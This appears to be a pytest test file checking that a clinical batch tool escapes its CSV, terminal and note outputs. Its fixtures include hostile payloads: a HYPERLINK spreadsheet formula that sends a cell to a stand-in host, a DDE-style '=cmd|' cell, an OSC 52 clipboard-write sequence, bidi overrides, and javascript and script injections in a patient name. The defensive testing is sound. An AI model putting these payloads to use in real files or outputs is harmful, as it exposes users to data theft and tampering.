"""Output that other programs open is safe to open (issue 16, item 4).

* CSV: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return was
  written as it came, and Excel ran it as a formula; now it starts with ``'`` (OWASP),
  while a number column stays numbers. ``--excel`` writes UTF-8 with a BOM and CRLF.
* The terminal: an unknown question id was echoed with its escape sequences (screen
  cleared, clipboard written by OSC 52); now every control and bidirectional character
  is shown as an escape.
* Notes: a patient or clinic name with a newline put a heading of its own into the
  Markdown and text notes, and ``javascript:`` links went into Markdown live.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from kneeguide.batch.output import CSV_FIELDS, cell, crlf, csv_row
from kneeguide.render.escape import markdown, one_line, plain, terminal

INPUTS = Path(__file__).parent / "inputs" / "output"
STORY = str(INPUTS / "story.json")
CLINIC = str(INPUTS / "clinic-hostile.yaml")
#: A patient "name" that tries every trick on a note at once.
HOSTILE = (
    "Tanaka\n# Fake heading\n=====\n- [click](javascript:alert(1)) <script>x</script>"
    " **bold**\n*** URGENT ***"
)


def kneeguide(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [sys.executable, "-m", "kneeguide", *args],
        input=None if stdin is None else stdin.encode(),
        capture_output=True,
        timeout=120,
        env=os.environ,
    )


# --- CSV ---------------------------------------------------------------------------


def batch_csv(*extra: str, source: str = "formulas.csv") -> list[dict[str, str]]:
    done = kneeguide("batch", str(INPUTS / source), "--output-format", "csv", *extra)
    assert done.returncode in (0, 2), done.stderr
    return list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8-sig"), newline="")))


def test_every_id_that_starts_like_a_formula_is_text_in_the_csv() -> None:
    ids = [row["id"] for row in batch_csv()]
    assert ids == [
        "佐藤",
        '\'=HYPERLINK("http://x.example/?"&A1)',
        "'-3",
        "'+1",
        "'@SUM(A1)",
        "a\nb",  # a line break inside a cell is the cell's, quoted
        "高橋",
    ]


def test_an_unknown_key_echoed_in_an_error_cell_is_text() -> None:
    rows = batch_csv(source="formulas.jsonl")
    assert rows[0]["id"] == "'=1+1"
    assert rows[0]["errors"].startswith("'=cmd|")
    assert rows[1]["errors"].startswith("'-2+3")
    assert [rows[2]["id"], rows[3]["id"]] == ["'\tTab", "'\rCR"]
    for row in rows:  # no cell anywhere starts like a formula
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


def test_a_number_column_stays_a_number_even_when_negative() -> None:
    """wells_points is a number (the Wells score can be -2): a spreadsheet must add it up."""
    record = {"row": 7, "id": "-7", "ok": True, "wells_dvt": {"points": -2, "band": "unlikely"}}
    cells = dict(zip(CSV_FIELDS, csv_row(record), strict=True))
    assert (cells["row"], cells["wells_points"], cells["id"]) == (7, -2, "'-7")
    assert cell(-3) == -3 and cell("-3") == "'-3" and cell("") == "" and cell("a=b") == "a=b"


def test_excel_csv_has_a_bom_and_crlf_and_reads_back_the_same() -> None:
    done = kneeguide("batch", str(INPUTS / "formulas.csv"), "--excel")
    data = done.stdout
    assert data.startswith(b"\xef\xbb\xbfrow,id,")
    body = data[3:].decode("utf-8")
    assert body.count("\r\n") == 8 and "\r\n" not in body.replace('"a\nb"', "").replace("\r\n", "")
    assert "佐藤" in body  # UTF-8, which Excel reads as UTF-8 because of the BOM
    plain_rows = batch_csv()
    excel_rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert excel_rows == plain_rows


@pytest.mark.parametrize("piped", [False, True], ids=["file", "pipe"])
def test_a_csv_that_came_with_a_bom_goes_back_with_one(tmp_path: Path, piped: bool) -> None:
    with_bom = "\ufeffid,calf_swelling\n佐藤,yes\n".encode()
    source = tmp_path / "from-excel.csv"
    source.write_bytes(with_bom)
    args = ("batch", "-", "--input-format", "csv") if piped else ("batch", str(source))
    done = subprocess.run(
        [sys.executable, "-m", "kneeguide", *args, "--output-format", "csv"],
        input=with_bom if piped else None,
        capture_output=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith(b"\xef\xbb\xbfrow,id,") and "佐藤" in done.stdout.decode("utf-8-sig")
    plain_input = kneeguide(
        "batch", "-", "--input-format", "csv", "--output-format", "csv", stdin="id,calf_swelling\nx,yes\n"
    )
    assert plain_input.stdout.startswith(b"row,id,")  # no BOM in, none out (without --excel)


def test_crlf_leaves_a_line_break_inside_a_quoted_cell_alone() -> None:
    assert crlf('1,"a\nb"\n2,"x""\ny"\n') == '1,"a\nb"\r\n2,"x""\ny"\r\n'


def test_excel_with_json_lines_is_refused_in_one_line() -> None:
    done = kneeguide("batch", str(INPUTS / "formulas.jsonl"), "--excel", "--output-format", "jsonl")
    assert done.returncode == 2 and done.stdout == b""
    assert done.stderr.decode().count("\n") == 1 and "--excel" in done.stderr.decode()


def test_excel_into_a_file_named_for_json_lines_is_refused_not_written_as_csv(tmp_path: Path) -> None:
    target = tmp_path / "records.jsonl"
    done = kneeguide("batch", str(INPUTS / "formulas.jsonl"), "--excel", "-o", str(target))
    assert done.returncode == 2 and not target.exists()
    assert done.stderr.decode().count("\n") == 1 and "name the output .csv" in done.stderr.decode()


# --- the terminal ------------------------------------------------------------------

#: What a terminal acts on: ESC, BEL, C1 controls, DEL, bidirectional overrides.
ACTIVE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_an_unknown_id_from_a_file_is_shown_not_acted_on(lang: str) -> None:
    done = kneeguide("assess", "-f", str(INPUTS / "escapes.json"), "--lang", lang)
    err = done.stderr.decode()
    assert done.returncode == 2 and not ACTIVE.search(err), repr(err)
    assert "\\x1b[2J\\x1b]52;c;aGFjaw==\\x07\\u202eevil" in err


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_an_unknown_id_from_the_command_line_is_shown_not_acted_on(lang: str) -> None:
    done = kneeguide("assess", "--lang", lang, "-a", "\x1b[2J\x9b31m\u2066x=yes")
    err = done.stderr.decode()
    assert done.returncode == 2 and not ACTIVE.search(err), repr(err)
    assert "\\x1b[2J\\x9b31m\\u2066x" in err


def test_an_unknown_option_is_shown_not_acted_on() -> None:
    err = kneeguide("assess", "--\x1b]52;c;aGk=\x07").stderr.decode()
    assert not ACTIVE.search(err) and "\\x1b]52" in err, repr(err)


def test_terminal_escapes_every_active_character_and_keeps_the_rest() -> None:
    assert terminal("佐藤 é ok") == "佐藤 é ok"
    assert terminal("\x1b\n\t\x7f\x85\u202e\u2069") == "\\x1b\\n\\t\\x7f\\x85\\u202e\\u2069"


# --- notes -------------------------------------------------------------------------


def note(fmt: str, lang: str, patient: str, *extra: str) -> str:
    done = kneeguide(
        "note", "-f", STORY, "--format", fmt, "--lang", lang, "--patient", patient, "--no-appendix", *extra
    )
    assert done.returncode == 0, done.stderr
    return done.stdout.decode()


def structure(md: str) -> list[tuple[str, str]]:
    """The block structure CommonMark (markdown-it) reads: headings, list items, quotes,
    HTML, links and images, in order."""
    wanted = (
        "heading_open",
        "list_item_open",
        "blockquote_open",
        "html_block",
        "html_inline",
        "link_open",
        "image",
    )
    tokens = MarkdownIt("commonmark").parse(md)
    out = []
    for t in tokens:
        for x in [t, *(t.children or [])]:
            if x.type in wanted:
                out.append((x.type, x.tag))
    return out


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_a_hostile_name_adds_no_structure_to_the_markdown_note(lang: str) -> None:
    calm = note("markdown", lang, "Tanaka")
    hostile = note("markdown", lang, HOSTILE, "--to", "<https://x.example>", "--doctor", "[a](javascript:x)")
    assert structure(hostile) == structure(note("markdown", lang, "Tanaka", "--to", "X", "--doctor", "Y"))
    assert structure(calm)[0] == ("heading_open", "h1")
    html = MarkdownIt("commonmark").render(hostile)
    assert "<script" not in html and "<a " not in html and "href" not in html
    assert "Fake heading" in html  # nothing dropped: shown as text


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_a_hostile_clinic_profile_adds_no_structure_to_the_markdown_note(lang: str) -> None:
    plain_clinic = INPUTS.parent.parent.parent / "examples" / "clinic-tokyo.yaml"
    calm = note("markdown", lang, "Tanaka", "--clinic", str(plain_clinic))
    hostile = note("markdown", lang, "Tanaka", "--clinic", CLINIC)
    assert structure(hostile) == structure(calm)
    assert "href" not in MarkdownIt("commonmark").render(hostile)


#: The lines of the text note that read as its own structure: underlines and rulers,
#: bracketed headings, banners, list items, Markdown-like headings.
TEXT_MARKUP = re.compile(r"^(?:[=\-]{3,}|\[.*\]$|【.*】$|\*\*\*|  \* |#)")


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_no_line_of_the_text_note_from_a_hostile_name_reads_as_its_markup(lang: str) -> None:
    calm = note(
        "text",
        lang,
        "Tanaka",
        "--clinic",
        str(INPUTS.parent.parent.parent / "examples" / "clinic-tokyo.yaml"),
    )
    hostile = note("text", lang, HOSTILE + " " + "=" * 30, "--clinic", CLINIC, "--doctor", "*** A ***")
    marks = [ln for ln in hostile.splitlines() if TEXT_MARKUP.match(ln)]
    assert marks == [ln for ln in calm.splitlines() if TEXT_MARKUP.match(ln)]
    assert "Fake heading" in hostile and not ACTIVE.search(hostile.replace("\n", ""))


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_the_html_note_escapes_a_hostile_name(lang: str) -> None:
    page = note("html", lang, HOSTILE + "\x1b[2J", "--clinic", CLINIC)
    assert "<script>x" not in page and "<script>alert" not in page and "&lt;script&gt;" in page
    assert 'href="javascript' not in page and "\x1b" not in page


def test_the_escapes_of_a_field() -> None:
    assert one_line(" a\r\n  b\tc\u2028d ") == "a b c d"
    assert markdown("1. x") == "1\\. x" and markdown("# x") == "\\# x" and markdown("-3") == "\\-3"
    assert markdown("<a href=x>") == "\\<a href=x\\>" and markdown("[a](b)") == "\\[a\\](b)"
    assert plain("x *** y ==== [H] - z") == "x \\*** y \\==== \\[H] - z"
    assert plain("田中【所見】") == "田中\\【所見】"
    # what means nothing in plain text is shown as written (no Markdown escapes in a text letter)
    assert plain("Sakura Clinic #2 · 2-3 Ginza * Chuo-ku") == "Sakura Clinic #2 · 2-3 Ginza * Chuo-ku"
    assert plain("O'Brien_J. #12 [x](javascript:alert(1))") == "O'Brien_J. #12 [x](javascript:alert(1))"
